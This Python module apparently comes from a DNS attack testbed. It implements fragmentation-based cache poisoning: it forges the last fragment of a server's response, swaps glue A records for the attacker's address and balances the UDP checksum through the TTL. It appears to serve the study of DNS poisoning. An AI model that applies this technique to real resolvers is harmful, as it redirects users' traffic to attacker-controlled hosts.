"""Replaces the end of a response that comes in fragments; what must be guessed is all in the first one."""

import struct
from collections.abc import Iterable, Iterator
from typing import Literal

import dns.ipv4
import dns.message
import dns.rdatatype
import dns.rrset
from pydantic import Field

from testbed.attack.api import Moment, Spoofed, SpoofedFragment
from testbed.attack.guessing import MINIMISED, Guessing, GuessingParameters
from testbed.core import message
from testbed.core.fragments import UDP_HEADER, ones_sum, pieces
from testbed.core.zone import Zone

PORT = 53
_FIXED = struct.Struct("!HHIH")
"""Type, class, TTL and length of RDATA (RFC 1035 section 4.1.3)."""


class SpoofFragmentsParameters(GuessingParameters):
    """Which fragments are forged, and which identifications are guessed."""

    mtu: int = Field(
        552, ge=68, le=1500, description="The size of packets, in octets, to which the server cuts responses."
    )
    ids: Literal["next", "any"] = Field(
        "next",
        description="Identifications that it guesses. next: from 1 on, as of a server that counts; whoever "
        "asks it sees where it stands. any: at random.",
    )
    minimised: bool = Field(True, description=MINIMISED)


class SpoofFragments(Guessing):
    """Sends last fragments of a server's response before the server does, with its own address in the glue.

    Port and message ID are in the first fragment, which is genuine. It asks the server the same to learn the
    rest, and makes up in a TTL for what a new address does to the checksum.
    """

    source = "RFC 9715 sections 1 and 3; Herzberg and Shulman, Fragmentation Considered Poisonous, CNS 2013"
    Parameters = SpoofFragmentsParameters
    parameters: SpoofFragmentsParameters

    def off_path(self, moment: Moment) -> Iterable[Spoofed]:
        """Leave fragments with the resolver that wait for their first one."""
        forged = self._forged(moment)
        if forged is None:
            return
        offset, part = forged
        for guess in self.guesses(moment, PORT):
            (server, _), (resolver, _) = guess.server, guess.resolver
            if ":" not in server:
                number = guess.number + 1 if self.parameters.ids == "next" else self._any()
                yield SpoofedFragment(server, resolver, number, offset, part, after=guess.after)

    def _any(self) -> int:
        return self.scene.rng.randrange(1, 2**16)

    def _forged(self, moment: Moment) -> tuple[int, bytes] | None:
        """The last fragment and its offset, where there is a second one with an address to replace in it."""
        response = self.scene.ask(self.parameters.server, message.encode(self._query(moment)))
        *_, (offset, part) = pieces(bytes(UDP_HEADER) + response, self.parameters.mtu)
        forged = part
        for server in self.scene.server_names:
            forged = self._led_away(forged, self.scene.server_addresses[server][0])
        return (offset, forged) if offset and forged != part else None

    def _query(self, moment: Moment) -> dns.message.Message:
        """What the resolver asks the server; how it words that shows in what it asks the attacker's own."""
        name, rdtype = self.asked(moment, self.parameters.minimised)
        return message.query(name, rdtype, id=0)

    def _led_away(self, part: bytes, address: str) -> bytes:
        """A fragment with A records for an address turned to the attacker's, and the same sum as before."""
        old, new = map(dns.ipv4.inet_aton, (address, self.scene.own_addresses[0]))
        for start in _places(part, old):
            replaced = part[:start] + new + part[start + len(new) :]
            part = _balanced(replaced, part, start - 6)
        return part

    def serves(self) -> Iterable[Zone]:
        """The target zone, to which the glue leads, with another address for the sensitive name."""
        yield self.scene.target_led_away()


def _places(part: bytes, address: bytes) -> Iterator[int]:
    """Where an address stands in the RDATA of A records that begin in this fragment."""
    start = part.find(address)
    while start >= 0:
        if start >= _FIXED.size:
            rdtype, rdclass, _, size = _FIXED.unpack_from(part, start - _FIXED.size)
            if (rdtype, rdclass, size) == (dns.rdatatype.A, 1, len(address)):
                yield start
        start = part.find(address, start + 1)


def _balanced(changed: bytes, original: bytes, ttl: int) -> bytes:
    """A part with a TTL, which begins at ``ttl``, such that the part has the checksum of another one.

    The lower octets of the TTL that make up a word of the sum are set.
    """
    word = ttl + 2 - ttl % 2
    without = changed[:word] + bytes(2) + changed[word + 2 :]
    missing = (ones_sum(original) - ones_sum(without)) % 0xFFFF
    return changed[:word] + struct.pack("!H", missing) + changed[word + 2 :]
